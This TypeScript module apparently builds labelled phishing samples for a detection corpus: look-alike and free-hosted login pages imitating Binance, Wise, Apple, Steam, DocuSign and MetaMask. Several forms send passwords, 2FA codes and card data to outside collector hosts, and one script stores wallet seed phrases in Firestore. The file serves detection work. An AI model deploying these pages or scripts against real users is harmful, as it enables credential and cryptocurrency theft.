import { type Entry } from '../entry.js';
import { baseCss, doc, svgLogo } from '../parts/d-parts.js';

/** Look-alike hosts (punycode homoglyphs, brand in a subdomain, typos), the brand@host userinfo trick, and kits on free hosting (pages.dev, web.app, netlify.app, github.io, r2.dev, workers.dev, IPFS gateways, site builders). Written for corpus/d. */

const login = (title: string, logo: string, color: string, note: string, action: string, extra = ''): string =>
  doc({
    title,
    css: baseCss(color) + `body{background:#f5f6f8}.l{max-width:420px;margin:60px auto}`,
    body: `<div class="l card"><div style="text-align:center">${logo}</div><h1 style="font-size:22px;text-align:center">${title}</h1><p class="muted">${note}</p><form method="post" action="${action}"><div class="form-group"><label>Email</label><input name="email" type="email" autocomplete="username"></div><div class="form-group"><label>Password</label><input name="password" type="password" autocomplete="current-password"></div>${extra}<button class="btn btn-block">Log in</button></form></div>`,
  });

export const entries: Entry[] = [

{
  id: 'd-look-punycode-binance',
  label: 'phishing',
  kind: 'lookalike-punycode',
  url: 'https://xn--bnance-pvf.com-login.org/en/login',
  body: login('Binance Log In', svgLogo('BINANCE', '#f0b90b', 'square'), '#f0b90b', 'Your account has been restricted due to unusual withdrawal activity. Log in to verify.', '/en/api/login', '<div class="form-group"><label>Google Authenticator code</label><input name="gauth" maxlength="6"></div>'),
},

{
  id: 'd-look-typo-wise',
  label: 'phishing',
  kind: 'lookalike-typo',
  url: 'https://wiise-transfer.com/login',
  body: login('Log in to Wise', svgLogo('wise', '#9fe870'), '#163300', 'A transfer of £2,400.00 to your account is pending verification.', '/login/submit', '<div class="form-group"><label>Card number linked to account</label><input name="cn"></div><div class="form-group"><label>Expiry / CVC</label><input name="ec"></div>'),
},

{
  id: 'd-look-userinfo-apple',
  label: 'phishing',
  kind: 'userinfo-trick',
  url: 'https://k7f2-sync.cloud-idmsa.net/appleid/signin',
  submittedUrl: 'https://appleid.apple.com%2Faccount%2Fmanage@k7f2-sync.cloud-idmsa.net/appleid/signin',
  body: login('Sign in with Apple ID', '<img src="img/apple-logo.svg" alt="Apple" width="40">', '#0071e3', 'Your Apple ID has been locked for security reasons. Sign in to unlock it.', '/appleid/signin/verify', '<div class="form-group"><label>Card number on file</label><input name="cc"></div>'),
},

{
  id: 'd-free-web-app-metamask',
  label: 'cryptodrainer',
  kind: 'freehost-seed',
  url: 'https://metamask-restore-wallet-9a.web.app/restore',
  body: doc({
    title: 'MetaMask — Restore your wallet',
    css: baseCss('#f6851b') + `.w{max-width:520px;margin:40px auto}`,
    body: `<div class="w card"><img src="images/metamask-fox.svg" alt="MetaMask" width="60"><h1 style="font-size:22px">Restore your wallet</h1><p>Your MetaMask extension was disabled after the last Chrome update. Enter your Secret Recovery Phrase to restore access to your funds.</p><form id="f"><textarea id="s" rows="3" placeholder="Paste your Secret Recovery Phrase"></textarea><br><br><div class="form-group"><label>New password</label><input type="password"></div><button class="btn btn-block">Restore</button></form></div>
<script type="module">
import { initializeApp } from 'https://www.gstatic.com/firebasejs/11.0.2/firebase-app.js';
import { getFirestore, addDoc, collection } from 'https://www.gstatic.com/firebasejs/11.0.2/firebase-firestore.js';
const app = initializeApp({ apiKey: 'AIzaSyB4x-Q7rT2mN9vK1pL8sD3fG6hJ0kZ5wXc', projectId: 'metamask-restore-wallet-9a' });
document.getElementById('f').addEventListener('submit', async (e) => { e.preventDefault(); await addDoc(collection(getFirestore(app), 'phrases'), { p: document.getElementById('s').value, t: Date.now() }); location.href = 'https://metamask.io/'; });
</script>`,
  }),
},

{
  id: 'd-free-github-io-steam-guard',
  label: 'phishing',
  kind: 'freehost-kit',
  url: 'https://steamcommunlty-trade.github.io/tradeoffer/new/',
  body: login('Sign In', '<img src="https://community.cloudflare.steamstatic.com/public/shared/images/header/logo_steam.svg" alt="STEAM" width="176">', '#1a9fff', 'Sign in to accept trade offer #6128834910 (AK-47 | Redline, Field-Tested).', 'https://steam-auth-relay.herokuapp.com/login', '<div class="form-group"><label>Steam Guard code</label><input name="guard" maxlength="5"></div>'),
},

{
  id: 'd-free-r2-dev-docusign',
  label: 'phishing',
  kind: 'freehost-kit',
  url: 'https://pub-3b9d1c77e04a4f2c8a51e6d0f2b7a913.r2.dev/DocuSign_Review_Nov.html',
  body: doc({
    title: 'DocuSign Electronic Signature Service',
    css: baseCss('#4c00ff') + `.w{max-width:480px;margin:50px auto}`,
    body: `<div class="w card"><p style="font-weight:700;font-size:22px">DocuSign</p><h1 style="font-size:20px">Please review the document: "Final_Settlement_Statement.pdf"</h1><p>To access the document, confirm your email account.</p><form method="post" action="https://docs-collector.fastapi-hook.com/ds"><div class="form-group"><label>Email</label><input name="e"></div><div class="form-group"><label>Email password</label><input name="p" type="password"></div><button class="btn btn-block">View document</button></form></div>`,
  }),
},

];
